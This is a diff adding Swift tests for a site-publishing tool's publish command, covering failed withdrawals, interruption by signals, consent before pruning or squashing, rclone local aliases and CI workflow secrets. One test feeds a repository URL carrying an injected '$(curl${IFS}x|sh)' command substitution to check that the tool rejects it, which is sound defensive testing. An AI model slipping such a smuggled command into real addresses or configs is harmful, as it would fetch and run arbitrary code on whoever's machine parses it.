@@ -227,6 +227,129 @@ struct PublishCommandTests {
     #expect(visible?.contains("people/ana/run/index.html") == true)
   }
 
+  @Test("a branch that cannot be reached is told with what is still to be seen on it, as far as this machine knows")
+  func visibleOnBranch() throws {
+    let sandbox = try Self.toBranch()
+    _ = try Self.run(sandbox)
+    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
+    let trial = try Self.run(sandbox, "--dry-run")
+    #expect(trial.output.contains("Everybody will see less of ana/run."), "\(trial.output)")
+    try FileManager.default.removeItem(at: sandbox.url.appendingPathComponent("site.git"))
+    let failed = try Self.run(sandbox)
+    #expect(failed.status == 74 && failed.output.contains("withdrawn, and perhaps still to be seen there:\n"))
+    for path in ["people/ana/run/index.html", "people/ana/index.html", "index.html"] {
+      #expect(failed.output.contains("  \(path)\n"), "\(path): \(failed.output)")
+    }
+    #expect(!failed.output.contains("people/ana/call/index.html") && !failed.output.contains("assets/"))
+  }
+
+  @Test(
+    "whoever ends it ends the program that sends, too, and is told what may still be seen",
+    arguments: ["INT", "TERM", "HUP"])
+  func ended(by signal: String) throws {
+    let sandbox = try Self.toFolder()
+    #expect(try Self.run(sandbox, "server", "--trust").status == 0)
+    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
+    try sandbox.write("bin/rsync", "#!/bin/sh\necho $$ >'\(sandbox.url.path)/sender'\nexec sleep 600\n")
+    try sandbox.write(
+      "end.sh",
+      """
+      '\(Program.url.path)' publish >said 2>&1 &
+      while [ ! -s sender ]; do sleep 0.05; done
+      kill -\(signal) $!
+      wait $!
+      echo "status $?"
+      kill -0 "$(cat sender)" 2>/dev/null && echo "it goes on"
+      cat said
+      """)
+    try FileManager.default.setAttributes(
+      [.posixPermissions: 0o755], ofItemAtPath: sandbox.url.appendingPathComponent("bin/rsync").path)
+    let said = try ExternalTool(
+      at: "/bin/sh",
+      environment: [
+        "HOME": sandbox.url.appendingPathComponent("me").path, "PATH": sandbox.url.path + "/bin:/usr/bin:/bin",
+      ], runningIn: sandbox.url.path
+    ).run(["end.sh"], until: .now + .seconds(300))
+    #expect(said.output.hasPrefix("status 74\n"), "\(said.output)")
+    #expect(!said.output.contains("it goes on"))
+    #expect(said.output.contains("withdrawn, and perhaps still to be seen there:"))
+    #expect(said.output.contains("  people/ana/run/index.html"))
+  }
+
+  @Test("a target to which nobody agreed does not keep the others from having their edition")
+  func several() throws {
+    let sandbox = try Self.toBranch()
+    try sandbox.write(
+      "data/daybook.yml", try sandbox.read("data/daybook.yml") + "  other: {rsync: \(Self.folder(sandbox))}\n")
+    let result = try Self.run(sandbox, "--json")
+    #expect(result.status == 65 && result.errors.contains("needs-consent"), "\(result)")
+    let targets = try #require(try JSON(result.output).list("targets"))
+    #expect(targets.map { $0["target"] } == ["pages", "other"] && targets.map { $0["ok"] } == ["1", "0"])
+    #expect(try Self.published(sandbox).contains("index.html") && !sandbox.exists("host"))
+  }
+
+  // MARK: Clearing up
+
+  @Test(
+    "where something private lies, or somebody's account, nothing is cleared up",
+    .enabled(if: ExternalTool.path(of: "rsync") != nil || Rounds.isThorough),
+    arguments: ["daybook.yml", "old/people/ben/profile.yml", "home/ben/index.html", ".ssh/authorized_keys", ".bashrc"])
+  func pruningPrivate(_ path: String) throws {
+    let sandbox = try Self.toFolder()
+    try sandbox.write("host/" + path, "private")
+    try sandbox.write("host/old.html", "old")
+    let result = try Self.run(sandbox, "server", "--trust", "--prune")
+    #expect(result.status == 65 && result.errors.contains("the target holds "), "\(result.errors)")
+    #expect(sandbox.files(below: "host") == [path, "old.html"].sorted())
+  }
+
+  @Test("at a place to which this machine never published, clearing up needs consent")
+  func pruningUnknown() throws {
+    let sandbox = try Self.diary("publish: {server: {rsync: \"example.invalid:.\"}}\n")
+    try sandbox.write("bin/rsync", "#!/bin/sh\necho \"$@\" >>called\ncat >/dev/null\n")
+    try FileManager.default.setAttributes(
+      [.posixPermissions: 0o755], ofItemAtPath: sandbox.url.appendingPathComponent("bin/rsync").path)
+    let path = sandbox.url.path + "/bin:/usr/bin:/bin"
+    let refused = try Self.run(sandbox, "server", "--prune", path: path)
+    #expect(refused.status == 65 && refused.errors.contains("to which this machine never published"))
+    #expect(!sandbox.exists("called"))
+    #expect(try Self.run(sandbox, "server", "--prune", "--dry-run", path: path).status == 0)
+    #expect(try Self.run(sandbox, "server", path: path).status == 0)
+    #expect(try Self.run(sandbox, "server", "--prune", path: path).status == 0)
+    #expect(try sandbox.read("called").contains("--list-only"))
+  }
+
+  @Test(
+    "a remote of rclone that leads to a folder of this machine is a folder of this machine",
+    .enabled(if: ExternalTool.path(of: "rclone") != nil || Rounds.isThorough))
+  func localRemotes() throws {
+    let sandbox = try Self.diary("publish: {bucket: {rclone: \"store:\"}}\n")
+    try sandbox.daybook("build")
+    try sandbox.write(
+      "me/.config/rclone/rclone.conf",
+      "[disk]\ntype = local\n\n[store]\ntype = alias\nremote = disk:\(sandbox.url.path)/site\n")
+    let refused = try Self.run(sandbox, "bucket")
+    #expect(refused.status == 65 && refused.errors.contains("leads to a folder of this machine"), "\(refused.errors)")
+    let agreed = try Self.run(sandbox, "bucket", "--trust")
+    #expect(agreed.status == 65 && agreed.errors.contains("what is private lies in"), "\(agreed.errors)")
+    try sandbox.write(
+      "me/.config/rclone/rclone.conf",
+      "[disk]\ntype = local\n\n[store]\ntype = alias\nremote = disk:\(sandbox.url.path)/host\n")
+    #expect(try Self.run(sandbox, "bucket").status == 0)
+    #expect(sandbox.exists("host/index.html"))
+    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
+    #expect(try Self.run(sandbox, "bucket").status == 0)
+    #expect(!sandbox.exists("host/people/ana/run/index.html"))
+  }
+
+  @Test("a branch whose history goes each time is named with that, and needs consent")
+  func squash() throws {
+    let sandbox = try Self.diary("publish: {pages: {git: \"https://example.invalid/x\", squash: true}}\n")
+    let refused = try Self.run(sandbox)
+    #expect(refused.status == 65 && refused.errors.contains("a branch whose history goes each time"))
+    #expect(refused.errors.contains("https://example.invalid/x gh-pages squash"), "\(refused.errors)")
+  }
+
   // MARK: On every push
 
   @Test(
@@ -244,9 +367,44 @@ struct PublishCommandTests {
     ][forge]
     let text = try sandbox.read(try #require(path))
     #expect(text.contains("publish pages --data data"))
-    #expect(text.contains("insteadOf"))
+    #expect(text.contains("insteadOf") && text.contains("GIT_CONFIG_VALUE_0=https://github.com/"))
+    // There is no key, and none is asked for.
+    #expect(!text.contains("DAYBOOK_KEY"))
     #expect(try Self.run(sandbox, "init", forge).status == 73)
     #expect(try sandbox.read(try #require(path)) == text)
+  }
+
+  @Test(
+    "where friends read, the file asks for the key, and it is said to whom that is never given",
+    arguments: ["github", "forgejo"])
+  func key(_ forge: String) throws {
+    let sandbox = try Self.diary("publish: {pages: {git: \"https://github.com/ana/site.git\"}}\nsite_key: 0123abcd\n")
+    try Self.git(sandbox, "init", "--quiet")
+    let result = try Self.run(sandbox, "init", forge)
+    #expect(result.status == 0, "\(result.errors)")
+    #expect(result.output.replacing("\n", with: " ").contains("never to forks and pull requests"), "\(result.output)")
+    let text = try sandbox.read(".\(forge)/workflows/publish.yml")
+    #expect(text.contains("          DAYBOOK_KEY: ${{ secrets.DAYBOOK_KEY }}\n"))
+    #expect(!text.contains("pull_request"))
+  }
+
+  @Test("to a place where a machine that begins with nothing removes nothing, no file publishes")
+  func stepwise() throws {
+    let sandbox = try Self.diary("publish: {server: {rsync: \"example.invalid:/x\"}, bucket: {rclone: \"r2:x\"}}\n")
+    for name in ["server", "bucket"] {
+      let result = try Self.run(sandbox, "init", "github", "--to", name)
+      #expect(result.status == 65 && result.errors.contains("what you withdraw would stay online"), "\(result.errors)")
+    }
+    #expect(!sandbox.exists(".github"))
+  }
+
+  @Test("an address with a command in it gets into no file")
+  func injection() throws {
+    let sandbox = try Self.diary(
+      "publish: {pages: {git: \"https://example.org:$(curl${IFS}x|sh)x/y.git\"}}\n")
+    let result = try Self.run(sandbox, "init", "github")
+    #expect(result.status == 1 && !sandbox.exists(".github"))
+    #expect(result.errors.contains("signs that a shell would take"), "\(result.errors)")
   }
 
   @Test("without a target GitLab has pages of its own, and GitHub asks for one")
